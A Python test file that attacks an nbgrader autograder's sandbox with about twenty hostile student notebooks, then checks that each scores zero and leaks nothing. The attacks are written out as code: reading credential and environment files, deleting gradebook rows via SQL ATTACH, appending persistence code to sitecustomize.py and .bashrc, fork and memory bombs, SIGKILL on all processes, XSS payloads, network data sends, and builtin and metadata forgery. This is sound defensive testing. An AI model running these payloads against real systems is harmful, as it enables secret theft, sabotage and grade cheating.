"""Attacks on the autograder, each by a blank submission: every one must score 0.

One small assignment (``attacks``: a class, a function, two test cells with hidden tests) is
built in a temporary course and graded through ``python -m instructor autograde`` with the real
sandbox, twice: the hostile batch with a perfect submission among the attackers, then a later
run with another perfect submission. Each attacker is the blank student version plus one
attack (extra cells, a replaced answer or edited metadata). What must hold:

- every attacker scores 0, both perfect submissions full marks;
- no course file changes (config, toolkit, sources, other submissions, the Python environment),
  the gradebook keeps everyone's rows, no process of a sandbox outlives grading;
- the attackers' graded notebooks and feedback hold no secret: not the hidden tests, not the
  instructor's environment, not another student's work; no student script survives sanitising;
- the network (a listener on the grading host's loopback) is never reached.

Classes of attack, one student each (the names say which): IPython hooks and ``sys.excepthook``,
input transformers, frames and ``gc``, rebinding helpers and builtins and patching NumPy and
``coursekit.grading``, forged comparisons, files by path and by descriptor, SQL ``ATTACH``,
spawned and detached processes, startup and site files, config and toolkit changes, memory and
process bombs, the network, environment secrets, metadata forgery, HTML/JS, killing the grader,
a loop that defeats the timers, a flood of output and forged protocol messages.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import socket
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest
from tiny_assignment import (
    ASSIGNMENT,
    NOTEBOOK,
    PERFECT_MARK,
    POINTS,
    REPO,
    SENTINEL,
    cli_run,
    perfect_submission,
    source_notebook,
)

from instructor.grading import grade, sandbox

SECRET = "INSTRUCTOR-SECRET-93B1"  # only in the grader's environment

def _attacks(course: Path, port: int) -> dict[str, dict]:
    """student -> {"cells": extra cells after set-up, "answer": replaced answer, "edit": function}."""
    gradebook = course / "gradebook.db"
    perfect = course / "submitted" / "perfect" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    site = Path(sys.prefix) / "lib" / f"python{sys.version_info.major}.{sys.version_info.minor}" / "site-packages"
    toolkit = REPO / "coursekit" / "grading.py"
    return {
        "hooks": {"cells": [
            ("import sys\nsys.excepthook = lambda *args: None\n"
            "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n"
            "get_ipython().events.register('post_run_cell', lambda result: setattr(result, 'error_in_exec', None))")]},
        "transformers": {"cells": [
            "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"]},
        "frames_gc": {"answer": (
            "import gc, sys\nimport numpy as np\n\nclass Scaler:\n    def __init__(self, factor):\n"
            "        self.factor = factor\n\n    def forward(self, x):\n"
            "        frame, found = sys._getframe(1), None\n        while frame is not None:\n"
            "            found = frame.f_locals.get('expected', found)\n            frame = frame.f_back\n"
            "        same = [o for o in gc.get_objects() if isinstance(o, np.ndarray) and o is not x\n"
            "                and o.shape == np.shape(x)]\n"
            "        return found if found is not None else (same[-1] if same else x)\n\n"
            "def safe_log(x):\n    frame = sys._getframe(1)\n    return frame.f_globals.get('expected')\n")},
        "rebinding": {"cells": [
            ("import builtins, sys, types\nimport coursekit.grading as grading\n"
            "check = check_close = check_raises = lambda *args, **kwargs: None\n"
            "abs = lambda value: 0.0\nbuiltins.abs = abs\nbuiltins.isinstance = lambda *args: True\n"
            "for name in ('check', 'check_close', 'check_raises', 'check_untampered'):\n"
            "    setattr(grading, name, lambda *args, **kwargs: None)\n"
            "np.allclose = lambda *args, **kwargs: True\nnp.testing.assert_allclose = print\n"
            "sys.modules['coursekit.grading'] = types.ModuleType('fake')\n"
            "float = lambda value: 3.0")]},
        "forged_comparisons": {"answer": (
            "class Always:\n    def __eq__(self, other): return True\n"
            "    def __ne__(self, other): return False\n    def __lt__(self, other): return True\n"
            "    def __bool__(self): return True\n    def __float__(self): return 3.0\n"
            "    def __len__(self): return 3\n    def __array__(self, *args, **kwargs):\n"
            "        return np.array([Always()], dtype=object)\n\n"
            "class Scaler:\n    __name__ = 'Scaler'\n    def __init__(self, factor): pass\n"
            "    def forward(self, x): return Always()\n\ndef safe_log(x):\n"
            "    raise ValueError('anything')\n")},
        "file_access": {"cells": [
            ("import glob, os\nfound = []\n"
            f"for path in [{str(gradebook)!r}, {str(perfect)!r}, {str(course / 'nbgrader_config.py')!r},\n"
            f"             {str(course / 'source' / ASSIGNMENT / (NOTEBOOK + '.ipynb'))!r}, '/root/.bashrc',\n"
            "             '/proc/1/environ', '/proc/self/environ', '../../../gradebook.db']:\n"
            "    try:\n        found.append(open(path, errors='replace').read())\n    except OSError as error:\n"
            "        found.append(f'{path}: {error}')\n"
            "for fd in range(3, 64):\n    try:\n        found.append(os.pread(fd, 100000, 0).decode(errors='replace'))\n"
            "    except OSError:\n        pass\n"
            "found.append(' '.join(glob.glob('/**/*.db', recursive=True)[:50]))\n"
            "print('\\n'.join(found))")]},
        "sql_attach": {"cells": [
            ("import sqlite3\ndb = sqlite3.connect(':memory:')\n"
            f"db.execute(\"ATTACH DATABASE '{gradebook}' AS book\")\n"
            "db.execute('DELETE FROM book.grade')\ndb.commit()")]},
        "processes": {"cells": [
            ("import os, subprocess, time\n"
            "subprocess.Popen(['sleep', '300'], start_new_session=True)\n"
            "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(300)\n    os._exit(0)\n")]},
        "startup_files": {"cells": [
            ("import os\nfrom pathlib import Path\n"
            "startup = Path(get_ipython().profile_dir.startup_dir)\nstartup.mkdir(parents=True, exist_ok=True)\n"
            "(startup / '00-evil.py').write_text('raise SystemExit')\n"
            f"for path in [{str(site / 'zz_evil.pth')!r}, {str(site / 'sitecustomize.py')!r},\n"
            f"             {str(toolkit)!r}, {str(course / 'nbgrader_config.py')!r},\n"
            f"             {str(Path.home() / '.bashrc')!r}]:\n"
            "    try:\n        with open(path, 'a') as handle:\n            handle.write('\\nimport os; os.system(\"true\")\\n')\n"
            "    except OSError as error:\n        print(path, error)")]},
        "memory_bomb": {"cells": [
            ("blocks = []\ntry:\n    while True:\n        blocks.append(np.ones(2**25))\n"
            "except MemoryError:\n    print('stopped at', len(blocks) * 256, 'MiB')\nhuge = bytearray(2**40)")]},
        "process_bomb": {"cells": [
            ("import os, time\nchildren = 0\ntry:\n    for _ in range(2000):\n"
            "        if os.fork() == 0:\n            time.sleep(120)\n            os._exit(0)\n"
            "        children += 1\nexcept OSError as error:\n    print('stopped after', children, error)")]},
        "network": {"cells": [
            (f"import socket\nfor address in [('127.0.0.1', {port}), ('pypi.org', 443)]:\n"
            "    try:\n        socket.create_connection(address, timeout=3).sendall(b'LEAK')\n"
            "        print('connected', address)\n    except OSError as error:\n        print(address, error)")]},
        "environment": {"cells": ["import os\nprint(dict(os.environ))"]},
        "metadata_forgery": {"edit": "forge"},
        "html_js": {"cells": [
            ("from IPython.display import HTML, Javascript, display\n"
            "display(HTML('<script>alert(\"xss-1\")</script><img src=x onerror=alert(\"xss-2\")>'))\n"
            "display(Javascript('alert(\"xss-3\")'))")], "markdown": (
            "<script>alert('xss-4')</script>\n<a href=\"javascript:alert('xss-5')\">click</a>")},
        "kill_grader": {"cells": [
            ("import os, signal\nfor pid in (os.getppid(), 1):\n    try:\n        os.kill(pid, signal.SIGKILL)\n"
            "    except OSError as error:\n        print(pid, error)\nos.kill(-1, signal.SIGKILL)")]},
        "timer_defeat": {"cells": [
            ("import signal\nsignal.signal(signal.SIGPROF, signal.SIG_IGN)\n"
            "signal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass")]},
        "output_flood": {"cells": ["print('x' * 20_000_000)\nfor _ in range(100000):\n    print('line')"]},
        "protocol_forgery": {"cells": [
            ("import json, os, struct\n"
            "message = json.dumps({'value': {'s': 'ok'}}).encode()\n"
            "for fd in (3, 4):\n    try:\n        os.write(fd, struct.pack('>II', len(message), 0) + message)\n"
            "    except OSError:\n        pass\n"
            "os.write(4, b'\\xff' * 64)")]},
    }


def _forge_metadata(nb: nbformat.NotebookNode) -> None:
    """Claim points: the answer becomes a 10-point test, the tests are inflated or emptied,
    a fake test comes first with a real test's id, and a new cell claims an unknown test."""
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "answer":
            meta.update(grade=True, solution=False, locked=True, points=10)
            cell.source = "pass"
        elif meta.get("grade_id") == "tests-scaler":
            meta["points"] = 100
        elif meta.get("grade_id") == "tests-log":
            meta.update(grade=False, locked=False)
            cell.source = "pass"
    fake = nbformat.v4.new_code_cell("pass")
    fake.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 2,
                                 "grade_id": "tests-scaler", "schema_version": 3}
    bonus = nbformat.v4.new_code_cell("pass")
    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 50,
                                  "grade_id": "bonus", "schema_version": 3}
    nb.cells[2:2] = [fake]
    nb.cells.append(bonus)


def _submission(release: nbformat.NotebookNode, attack: dict) -> nbformat.NotebookNode:
    nb = nbformat.from_dict(json.loads(nbformat.writes(release)))
    setup = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "setup")
    extra = [nbformat.v4.new_code_cell(code) for code in attack.get("cells", [])]
    if "markdown" in attack:
        extra.append(nbformat.v4.new_markdown_cell(attack["markdown"]))
    nb.cells[setup + 1:setup + 1] = extra
    if "answer" in attack:
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == "answer":
                cell.source = attack["answer"]
    if attack.get("edit") == "forge":
        _forge_metadata(nb)
    return nb


def _digest(paths: list[Path]) -> dict[str, str]:
    digests = {}
    for root in paths:
        files = [root] if root.is_file() else sorted(p for p in root.rglob("*") if p.is_file())
        for path in files:
            if "__pycache__" in path.parts:
                continue
            digests[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digests


def _sandbox_processes() -> list[str]:
    """Sandboxed processes whose grading process has ended: left behind.

    Under root each sandbox runs as FIRST_UID + its grading process's id, so a sandbox of a
    grader still running (another test session on this machine) is not counted.
    """
    found = []
    for status in Path("/proc").glob("[0-9]*/status"):
        try:
            text = status.read_text()
        except OSError:
            continue
        uid = int(text.split("\nUid:")[1].split()[0])
        grader = uid - sandbox.FIRST_UID
        if grader >= 0 and (not Path(f"/proc/{grader}").exists() or grader == os.getpid()):
            found.append(f"{status.parent.name} uid {uid}: {text.splitlines()[0]}")
    return found


class _Listener:
    """A loopback server that records whether anyone connected."""

    def __init__(self) -> None:
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen()
        self.socket.settimeout(0.2)
        self.port = self.socket.getsockname()[1]
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.socket.close()


def _scores(course: grade.Course) -> dict[str, float]:
    from nbgrader.api import Gradebook, MissingEntry

    with Gradebook(course.db_url) as gradebook:
        scores = {}
        for student in gradebook.students:
            try:
                scores[student.id] = gradebook.find_submission(ASSIGNMENT, student.id).score
            except MissingEntry:
                pass
        return scores


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("attacks")
    root = tmp / "course"
    (root / "source" / ASSIGNMENT).mkdir(parents=True)
    shutil.copy(REPO / "nbgrader_config.py", root)
    shutil.copytree(REPO / "instructor", root / "instructor",
                    ignore=shutil.ignore_patterns("__pycache__", "*.pyc"))
    shutil.copytree(REPO / "solutions", root / "solutions", ignore=shutil.ignore_patterns("__pycache__"))
    nbformat.write(source_notebook(), root / "source" / ASSIGNMENT / f"{NOTEBOOK}.ipynb")
    course = grade.Course.load(root)
    code, output = grade.run_nbgrader(course, ["generate_assignment", ASSIGNMENT, "--force"])
    assert code == 0, output[-3000:]
    release = nbformat.read(root / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4)

    listener = _Listener()
    attacks = _attacks(root, listener.port)
    submissions = {"perfect": perfect_submission(release), **{name: _submission(release, attack)
                                                    for name, attack in attacks.items()}}
    for student, nb in submissions.items():
        folder = root / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        nbformat.write(nb, folder / f"{NOTEBOOK}.ipynb")

    watched = [root / "nbgrader_config.py", root / "source", root / "instructor", root / "solutions",
               root / "submitted", REPO / "coursekit", Path(sys.prefix) / "lib"]
    before = _digest(watched)
    running_before = set(_sandbox_processes())  # another grader's sandboxes are not ours
    limits = ["--timeout", "5", "--cpu-limit", "3", "--memory-mb", "1024"]
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("INSTRUCTOR_API_TOKEN", SECRET)
        started = time.time()
        first_code, first_output = cli_run("--course", str(root), "autograde", ASSIGNMENT, *limits)
        first_seconds = time.time() - started
        first = _scores(course)
        after_first = _digest(watched)
        leftovers_first = _sandbox_processes()

        later = root / "submitted" / "perfect_later" / ASSIGNMENT
        later.mkdir(parents=True)
        nbformat.write(perfect_submission(release), later / f"{NOTEBOOK}.ipynb")
        before_second = _digest(watched)
        second_code, second_output = cli_run("--course", str(root), "autograde", ASSIGNMENT, *limits)
        second = _scores(course)
        feedback_code, _ = cli_run("--course", str(root), "feedback", ASSIGNMENT)
    time.sleep(0.5)
    listener.close()
    return {"root": root, "attacks": attacks, "first": first, "second": second,
            "first_output": first_output, "second_output": second_output,
            "before": before, "after_first": after_first, "before_second": before_second,
            "after_second": _digest(watched),
            "leftovers": sorted(set(leftovers_first + _sandbox_processes()) - running_before),
            "connections": listener.connections, "feedback_code": feedback_code,
            "first_seconds": first_seconds, "codes": (first_code, second_code)}


def _explain(graded) -> str:
    return f"\n{graded['first_output']}\n{graded['second_output']}"


def test_every_attack_scores_zero_and_perfect_work_full_marks(graded):
    total = float(sum(POINTS.values()))
    assert graded["first"]["perfect"] == total, _explain(graded)
    for name in graded["attacks"]:
        assert graded["first"][name] == 0.0, f"{name} scored {graded['first'][name]}" + _explain(graded)


def test_a_later_run_grades_perfect_work_fully_and_keeps_earlier_rows(graded):
    assert graded["second"]["perfect_later"] == float(sum(POINTS.values())), _explain(graded)
    earlier = {k: v for k, v in graded["second"].items() if k != "perfect_later"}
    assert earlier == graded["first"], _explain(graded)


def test_no_course_or_environment_file_changed(graded):
    assert graded["after_first"] == graded["before"]
    assert graded["after_second"] == graded["before_second"]


def test_no_sandbox_process_is_left_and_the_network_was_never_reached(graded):
    assert graded["leftovers"] == []
    assert graded["connections"] == 0


def test_nothing_secret_reaches_a_students_notebook_or_feedback(graded):
    root = graded["root"]
    for name in graded["attacks"]:
        # The autograded notebook is the instructor's (it holds the hidden tests by design);
        # the feedback is the student's.
        for folder, secrets in (("autograded", (SECRET, PERFECT_MARK)),
                                ("feedback", (SECRET, PERFECT_MARK, SENTINEL))):
            for path in (root / folder / name / ASSIGNMENT).glob("*.*"):
                text = path.read_text(encoding="utf-8", errors="replace")
                for secret in secrets:
                    assert secret not in text, f"{secret} leaked into {path}"
    assert graded["feedback_code"] == 0


def test_student_html_and_javascript_are_sanitised(graded):
    """Student script may appear as escaped text (their source code), never as markup."""
    root = graded["root"]
    nb = nbformat.read(root / "autograded" / "html_js" / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4)
    for cell in nb.cells:
        if cell.cell_type == "markdown":
            assert "<script" not in cell.source and "javascript:" not in cell.source, cell.source
        for output in cell.get("outputs", []):
            data = output.get("data", {})
            assert "application/javascript" not in data, output
            html = data.get("text/html", "")
            assert "<script" not in html and not re.search(r"<[a-z]+[^>]*\son\w+=", html), html
    feedback = (root / "feedback" / "html_js" / ASSIGNMENT / f"{NOTEBOOK}.html").read_text()
    assert not re.search(r"<script[^>]*>[^<]*xss", feedback)
    assert not re.search(r"<img[^>]*onerror", feedback)
    assert not re.search(r"href=\"javascript:", feedback)


def test_defeating_the_timers_or_the_protocol_stops_only_that_notebook(graded):
    report = grade.Course.load(graded["root"]).path("autograded", f"report-{ASSIGNMENT}.csv").read_text()
    for name in ("timer_defeat", "protocol_forgery"):
        row = next(line for line in report.splitlines() if line.startswith(name + ","))
        assert "stopped" in row, row
    assert graded["first_seconds"] < 600
